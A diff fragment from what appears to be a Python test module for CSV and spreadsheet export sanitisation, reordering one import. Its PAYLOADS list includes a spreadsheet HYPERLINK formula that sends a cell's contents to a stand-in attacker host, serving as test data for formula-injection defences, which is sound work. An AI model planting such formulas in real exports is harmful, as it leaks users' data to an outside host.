@@ -18,10 +18,10 @@ from openpyxl import load_workbook
 
 from core.exports import FORMULA_TRIGGERS, csv_bytes, csv_cell, is_formula_like
 from evaluation.services import reviews as review_services
-from tests.test_access import ROUTES
 from tests.accounts.factories import UserFactory
 from tests.evaluation.test_reviews import build_plan
 from tests.territories.factories import CommuneFactory
+from tests.test_access import ROUTES
 
 PAYLOADS = [
     '=HYPERLINK("http://attaquant.example/?v="&A1,"y")',
